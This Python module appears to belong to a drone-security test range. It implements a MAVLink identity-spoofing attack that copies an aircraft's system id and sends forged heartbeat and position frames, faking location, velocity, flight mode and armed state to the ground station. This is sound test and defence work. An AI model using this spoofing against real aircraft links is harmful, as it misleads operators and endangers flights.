"""A second stream of reports with the system id of an aircraft: heartbeats and positions of the attacker's own."""

from __future__ import annotations

from dataclasses import dataclass, field
from math import degrees
from typing import Any, Final

import skyrange.plugin as sky
from skyrange.attack.bases.mavlink.message_fields import put, put_bits, read_fields, write_fields
from skyrange.attack.bases.mavlink.orders import AUTOPILOT
from skyrange.attack.contract import Place
from skyrange.attack.params import place_param
from skyrange.codec.mavlink import dialect as mav
from skyrange.codec.mavlink import message_id
from skyrange.codec.mavlink.flight_modes import COPTER_MODE_NUMBERS
from skyrange.contracts.verdicts import Direction
from skyrange.core.elementary import atan2, hypot
from skyrange.core.geodesy import Origin

HEARTBEAT: Final = int(mav.MAVLINK_MSG_ID_HEARTBEAT)
POSITION: Final = int(mav.MAVLINK_MSG_ID_GLOBAL_POSITION_INT)
_ARMED: Final = int(mav.MAV_MODE_FLAG_SAFETY_ARMED)


@dataclass(slots=True)
class ClaimedAircraft:
    """What is claimed; the rest of each report is that of the true aircraft."""

    origin: Origin
    at: Place
    """Position at the start."""
    velocity_mps: Place
    mode: str | None
    armed: bool | None
    heard: dict[int, bytes] = field(default_factory=dict)
    """The last HEARTBEAT and GLOBAL_POSITION_INT of the true aircraft, by message id."""
    sequence: int = 0

    def hear(self, payload: bytes, system: int) -> None:
        """Learn from a frame, if the autopilot of this system sent it."""
        number = message_id(payload)
        if number not in (HEARTBEAT, POSITION) or read_fields(payload, number) is None:
            return
        if payload[5] == system and payload[6] == AUTOPILOT:
            self.heard[number] = payload

    def report(self, number: int, seconds: float | None) -> bytes:
        """The next frame, some seconds after the start; with `None` it tells the same as the true one."""
        payload = self.heard[number]
        fields: Any = read_fields(payload, number)
        if seconds is not None and number == HEARTBEAT:
            self._write_state(fields)
        elif seconds is not None:
            self._write_position(fields, seconds)
        self.sequence = (self.sequence + 1) & 0xFF
        header = payload[:4] + bytes([self.sequence]) + payload[5:]
        return write_fields(header, number, fields, fields.dtype.itemsize)

    def _write_state(self, fields: Any) -> None:
        if self.mode is not None:
            put(fields, "custom_mode", COPTER_MODE_NUMBERS[self.mode])
        if self.armed is not None:
            put_bits(fields, "base_mode", _ARMED, value=self.armed)

    def _write_position(self, fields: Any, seconds: float) -> None:
        at, (east, north, up) = self.at, self.velocity_mps
        lat_deg, lon_deg = self.origin.geodetic_of(at[0] + east * seconds, at[1] + north * seconds)
        above_home_m = (float(fields["relative_alt"]) - float(fields["alt"])) * 1e-3
        msl_m = self.origin.alt_msl_m + at[2] + up * seconds
        claimed = {
            "lat": lat_deg * 1e7, "lon": lon_deg * 1e7, "alt": msl_m * 1e3,
            "relative_alt": (msl_m + above_home_m) * 1e3, "vx": north * 100, "vy": east * 100, "vz": -up * 100,
        }  # fmt: skip
        if hypot(east, north) > 0:
            claimed["hdg"] = degrees(atan2(east, north)) % 360.0 * 100
        for name, value in claimed.items():
            put(fields, name, value)


@sky.attack(
    "identity.second_vehicle",
    technique="T0856",
    effect="the ground station gets two conflicting streams of one aircraft, and acts on both",
    knowledge="the system id of the aircraft and its last reports, which it hears",
    position="by place: near the link with a radio, in the operator's network, or on board; it need not hold up frames",
    equipment="a computer that sends MAVLink",
    budget="a frame of 40 bytes per position, 21 bytes per heartbeat",
    load="the sham: the same frames, repeating the aircraft's own last reports",
    content="none, because the sham has the true content",
    placement="the same stream on the link of another aircraft",
)
class SecondVehicle(sky.InjectionOnLinks):
    """Sends heartbeats and positions with the system id of an aircraft, beside its own.

    They go to its ground station, and are made from the last ones of the aircraft; there are none before it was heard.
    The sham repeats the aircraft's own last heartbeat and position, with as many bytes.
    """

    at: sky.Enu = place_param("Claimed position at the start of the attack")
    velocity_mps: sky.Enu = sky.param("Claimed velocity, [east, north, up] in m/s.", default=(0.0, 0.0, 0.0))
    rate_hz: sky.Number = sky.param("Positions per second; one heartbeat per second.", default=4.0, ge=1, le=50)
    mode: sky.CopterMode | None = sky.param("Claimed mode, such as 'LAND'; default: the aircraft's.", default=None)
    armed: bool | None = sky.param("Claimed armed state; default: that of the aircraft.", default=None)
    way: Direction = "rev"
    claimed: ClaimedAircraft
    beat_ns: sky.Time = 0
    """When the next heartbeat is due."""

    def prepare(self, context: sky.AttackContext) -> None:
        self.claimed = ClaimedAircraft(context.origin, self.at, self.velocity_mps, self.mode, self.armed)

    def marks(self) -> dict[str, sky.Place]:
        return {"second aircraft": self.at}

    def period_ns(self) -> sky.Time:
        return round(sky.NS_PER_S / self.rate_hz)

    def on_frame(self, now: sky.Time, frame: sky.Frame) -> sky.Verdicts:
        if frame.direction == "rev":
            self.claimed.hear(frame.payload, self.target)
        return ()

    def send(self, now: sky.Time) -> sky.Verdicts:
        if len(self.claimed.heard) < 2:
            return ()
        beats = now >= self.beat_ns
        if beats:
            self.beat_ns = now + sky.NS_PER_S
        seconds = None if self.sham else (now - self.schedule.start_ns) / sky.NS_PER_S
        numbers = (HEARTBEAT, POSITION) if beats else (POSITION,)
        return [self.inject(self.claimed.report(number, seconds)) for number in numbers]
